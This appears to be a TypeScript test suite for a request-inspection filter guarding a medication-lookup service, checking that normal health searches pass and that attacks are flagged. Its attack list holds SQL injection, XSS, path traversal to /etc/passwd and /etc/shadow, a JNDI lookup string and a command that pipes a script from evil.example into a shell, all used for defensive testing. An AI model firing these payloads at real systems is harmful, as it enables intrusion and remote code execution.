import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { decodeValue } from './decode.ts';
import { inspectionMemo, inspectRequest, type RequestSnapshot } from './inspect.ts';

const browser = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36';
const threshold = 5;

function search(q: string): RequestSnapshot {
  return { method: 'GET', path: '/search', query: `q=${encodeURIComponent(q)}`, headers: { host: 'localhost', 'user-agent': browser } };
}
function jsonBody(value: unknown): RequestSnapshot {
  const text = JSON.stringify(value);
  return { method: 'POST', path: '/api/v1/interactions/check', query: '', headers: { host: 'localhost', 'content-type': 'application/json' }, body: { contentType: 'application/json', text } };
}
const blocked = (r: RequestSnapshot) => inspectRequest(r).score >= threshold;

describe('decoding', () => {
  it('undoes double URL encoding, entities, escapes and full-width forms', () => {
    assert.equal(decodeValue('%253Cscript%253E'), '<script>');
    assert.equal(decodeValue('&lt;img&#x20;src&#61;x&gt;'), '<img src=x>');
    assert.equal(decodeValue('\\u003cscript\\x3e'), '<script>');
    assert.equal(decodeValue('＜script＞'), '<script>');
    assert.equal(decodeValue('Русский баклофен'), 'Русский баклофен');
  });
});

describe('ordinary health text passes', () => {
  const legitimate = [
    "O'Brien", 'drop in blood pressure with baclofen', 'select a drug', '<5 mg dose', '1-800-662-4357', 'naïve',
    '巴氯芬的副作用', 'العربية باكلوفين', 'Русский баклофен', 'x > y and y < z', '1=1 isn\'t a dose', 'Order by distance',
    'delete my email', '../back to results', '/* note */', 'eGFR < 30 mL/min/1.73m²', "St. Mary's Hospital - Detox Unit",
    'baclofen & alcohol', 'what happens if I stop baclofen suddenly', 'Can I take 2 x 10 mg instead of 20 mg?',
  ];
  for (const text of legitimate) {
    it(JSON.stringify(text), () => {
      assert.equal(blocked(search(text)), false, JSON.stringify(inspectRequest(search(text)).findings));
      assert.equal(blocked(jsonBody({ drugs: [text], name: text })), false);
    });
  }
  it('a real browser user agent scores nothing', () => {
    assert.equal(inspectRequest(search('baclofen')).score, 0);
  });
});

describe('attacks are blocked by structure', () => {
  const attacks: [string, string][] = [
    ['sqli', "' OR 1=1 --"],
    ['sqli', "admin' or 'x'='x"],
    ['sqli', '1 UNION ALL SELECT NULL,NULL--'],
    ['sqli', "1; DROP TABLE users"],
    ['sqli', "x' AND sleep(5)#"],
    ['xss', '<script>alert(1)</script>'],
    ['xss', '<img src=x onerror=alert(1)>'],
    ['xss', '" onmouseover="alert(document.cookie)'],
    ['xss', '<a href="javascript:alert(1)">x</a>'],
    ['lfi', '../../../../etc/passwd'],
    ['lfi', '..%252f..%252f..%252fetc%252fshadow'],
    ['rfi', 'http://203.0.113.9/shell.txt?'],
    ['rce', '; cat /etc/passwd'],
    ['rce', '$(curl http://evil.example/x.sh | sh)'],
    ['rce', "c'a't /e't'c/pa's'swd"],
    ['template', '${jndi:ldap://evil.example/a}'],
    ['template', "{{ ''.__class__.__mro__ }}"],
  ];
  for (const [category, payload] of attacks) {
    it(`${category}: ${payload}`, () => {
      const verdict = inspectRequest(search(payload));
      assert.ok(verdict.score >= threshold, `score ${verdict.score}: ${JSON.stringify(verdict.findings)}`);
      assert.ok(blocked(jsonBody({ q: payload })), 'also in a JSON body');
    });
  }
  it('a single weak signal stays under the threshold', () => {
    const verdict = inspectRequest(search('1=1'));
    assert.ok(verdict.score > 0 && verdict.score < threshold);
  });
  it('ignored categories do not count (route exceptions)', () => {
    const r = search('<script>alert(1)</script>');
    assert.equal(inspectRequest(r, { ignore: new Set(['xss']) }).categories.includes('xss'), false);
  });
  it('protocol abuse: smuggling and unknown methods', () => {
    const smuggle: RequestSnapshot = { method: 'POST', path: '/', query: '', headers: { host: 'x', 'content-length': '4', 'transfer-encoding': 'chunked' } };
    assert.ok(blocked(smuggle));
    assert.ok(blocked({ method: 'TRACK', path: '/', query: '', headers: { host: 'x' } }));
  });
  it('malformed input: NUL bytes and overlong UTF-8', () => {
    assert.ok(blocked({ method: 'GET', path: '/search', query: 'q=abc%00.txt', headers: { host: 'x' } }));
    assert.ok(blocked({ method: 'GET', path: '/search', query: 'q=%c0%af%c0%afetc', headers: { host: 'x' } }));
  });
  it('scanner user agents', () => {
    assert.ok(blocked({ method: 'GET', path: '/', query: '', headers: { host: 'x', 'user-agent': 'sqlmap/1.7 (https://sqlmap.org)' } }));
  });
});

describe('properties', () => {
  it('words and numbers never block, whatever the script', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.stringMatching(/^[\p{L}]{1,12}$/u), fc.integer({ min: 0, max: 10000 }).map(String)), { maxLength: 12 }), (parts) => {
        assert.equal(blocked(search(parts.join(' '))), false, parts.join(' '));
      }),
      { numRuns: 300 },
    );
  });
  it('inspection never throws on arbitrary input', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), fc.string({ maxLength: 100 }), (body, query) => {
        inspectRequest({ method: 'POST', path: '/x', query, headers: { host: 'x', 'content-type': 'application/json' }, body: { contentType: 'application/json', text: body } });
      }),
      { numRuns: 300 },
    );
  });
  it('a remembered verdict is the verdict inspection gives afresh', () => {
    const payloads = fc.oneof(
      fc.constantFrom("' OR 1=1 --", '<script>alert(1)</script>', '../../etc/passwd', '; cat /etc/passwd', 'baclofen', 'MedicationRequest', 'Patient/p1'),
      fc.string({ maxLength: 40 }),
      fc.string({ minLength: 250, maxLength: 300 }),
    );
    fc.assert(
      fc.property(fc.array(payloads, { minLength: 1, maxLength: 6 }), fc.boolean(), (values, strict) => {
        const request = jsonBody(Object.fromEntries(values.map((v, i) => [`drugs${i}`, v])));
        const reading = (strictly: boolean) => ({
          known: true,
          query: new Set<string>(),
          body: { members: new Set(strictly ? [] : values.map((_, i) => `drugs${i}`)), openMembers: new Set<string>() },
        });
        inspectionMemo.clear();
        const fresh = inspectRequest(request, { expect: reading(strict) });
        // The same texts judged elsewhere (the other strictness, a query string) must not leak into this verdict.
        inspectionMemo.clear();
        inspectRequest(request, { expect: reading(!strict) });
        for (const v of values) inspectRequest(search(v));
        assert.deepEqual(inspectRequest(request, { expect: reading(strict) }), fresh);
        assert.deepEqual(inspectRequest(request, { expect: reading(strict) }), fresh);
      }),
      { numRuns: 300 },
    );
  });
  it('the memo stays bounded however many distinct values arrive', () => {
    inspectionMemo.clear();
    // Distinct values and distinct Host headers (each judged separately): neither grows it past its bound.
    for (let i = 0; i < inspectionMemo.maxEntries + 500; i++) {
      const request = search(`baclofen ${i}`);
      inspectRequest(i % 2 ? request : { ...request, headers: { ...request.headers, host: `host-${i}.example` } });
    }
    assert.ok(inspectionMemo.size <= inspectionMemo.maxEntries, `${inspectionMemo.size} entries`);
  });
});
